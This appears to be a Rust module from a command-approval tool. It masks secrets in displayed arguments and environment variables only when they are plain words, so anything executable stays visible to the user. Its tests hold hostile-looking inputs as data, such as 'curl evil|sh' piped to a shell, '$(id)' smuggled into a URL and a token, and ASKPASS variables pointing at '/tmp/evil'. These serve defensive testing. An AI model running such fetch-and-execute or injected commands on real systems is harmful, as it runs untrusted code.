//! What a question about a program shows of its arguments and variables. The user decides by what is shown, so a secret is
//! masked only if it is a plain word: nothing that could be run is hidden behind a mask.

use super::super::secret::{is_secret_variable, text};
use super::super::span::Span;
use super::super::view::REDACTED;
use std::path::Path;

/// Programs that run a script, or what their arguments say.
const INTERPRETERS: [&str; 24] = [
    "ash",
    "awk",
    "bash",
    "cmd",
    "csh",
    "dash",
    "deno",
    "expect",
    "fish",
    "gawk",
    "ksh",
    "lua",
    "mksh",
    "node",
    "nu",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "python",
    "ruby",
    "sh",
    "tclsh",
    "zsh",
];

/// The arguments as they are shown.
pub(super) fn shown_arguments(command: &str, arguments: &[&str]) -> Vec<String> {
    let mut shown: Vec<String> = arguments.iter().map(|&argument| argument.to_owned()).collect();
    for (at, span) in text::of_arguments(arguments).into_iter().rev() {
        // `bash -p FILE` runs FILE.
        let is_script =
            at.checked_sub(1).is_some_and(|before| arguments[before] == "-p") && is_interpreter(command);
        if is_plain(&arguments[at][span.start..span.end]) && !is_script {
            shown[at].replace_range(span.start..span.end, REDACTED);
        }
    }
    shown
}

/// The value of a variable as it is shown.
pub(super) fn shown_variable(name: &str, value: &str) -> String {
    let is_name = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let is_program = name.to_ascii_uppercase().ends_with("ASKPASS");
    if !is_name || is_program {
        return value.to_owned();
    }
    let spans = match is_secret_variable(name) && !value.is_empty() {
        true => vec![Span::new(0, value.len())],
        false => text::spans(value),
    };
    let mut shown = value.to_owned();
    for span in spans.into_iter().rev().filter(|span| is_plain(&value[span.start..span.end])) {
        shown.replace_range(span.start..span.end, REDACTED);
    }
    shown
}

/// True for the name or path of an interpreter, also with a version: `/usr/bin/python3.12`.
fn is_interpreter(command: &str) -> bool {
    let name = Path::new(command).file_name().and_then(|name| name.to_str()).unwrap_or(command);
    let name = name.strip_suffix(".exe").unwrap_or(name).to_ascii_lowercase();
    INTERPRETERS
        .contains(&name.trim_end_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | '-' | '_')))
}

/// True for a word that is neither a path nor anything that a shell or another interpreter evaluates.
fn is_plain(secret: &str) -> bool {
    !secret.starts_with(['/', '.', '~'])
        && secret.chars().all(|c| c.is_alphanumeric() || "._~+=-/:@%!#*^,?".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_could_be_run_is_shown() {
        for (command, arguments) in [
            ("sh", &["-c", "TOKEN=$(curl evil|sh); aws"][..]),
            ("bash", &["-p", "/tmp/evil.sh"]),
            ("/bin/bash", &["-p", "evil"]),
            ("/usr/bin/python3.12", &["-c", "api_key=__import__('os')"]),
            ("login", &["--token", "`curl evil|sh`"]),
            ("login", &["--password=/tmp/evil.sh"]),
            ("login", &["https://$(id)@host"]),
        ] {
            assert_eq!(shown_arguments(command, arguments), arguments, "{command}");
        }
        for (name, value) in [
            ("GIT_ASKPASS", "evil"),
            ("SSH_ASKPASS", "/tmp/evil"),
            ("BASH_FUNC_token%%", "() { id; }"),
            ("DB_TOKEN", "$(id)"),
            ("PASSWORD_KEY", "./evil"),
        ] {
            assert_eq!(shown_variable(name, value), value, "{name}");
        }
    }

    #[test]
    fn a_secret_is_masked() {
        let arguments = ["--token=abc", "-p", "hunter2", "https://me:pw@host"];
        let shown = ["--token=REDACTED", "-p", "REDACTED", "https://REDACTED@host"];
        assert_eq!(shown_arguments("login", &arguments), shown);
        assert_eq!(shown_arguments("sh", &["-c", "x --token abc"]), ["-c", "x --token REDACTED"]);
        assert_eq!(shown_variable("DB_PASSWORD", "hunter2"), "REDACTED");
        assert_eq!(shown_variable("HTTPS_PROXY", "http://me:pw@p"), "http://REDACTED@p");
    }
}
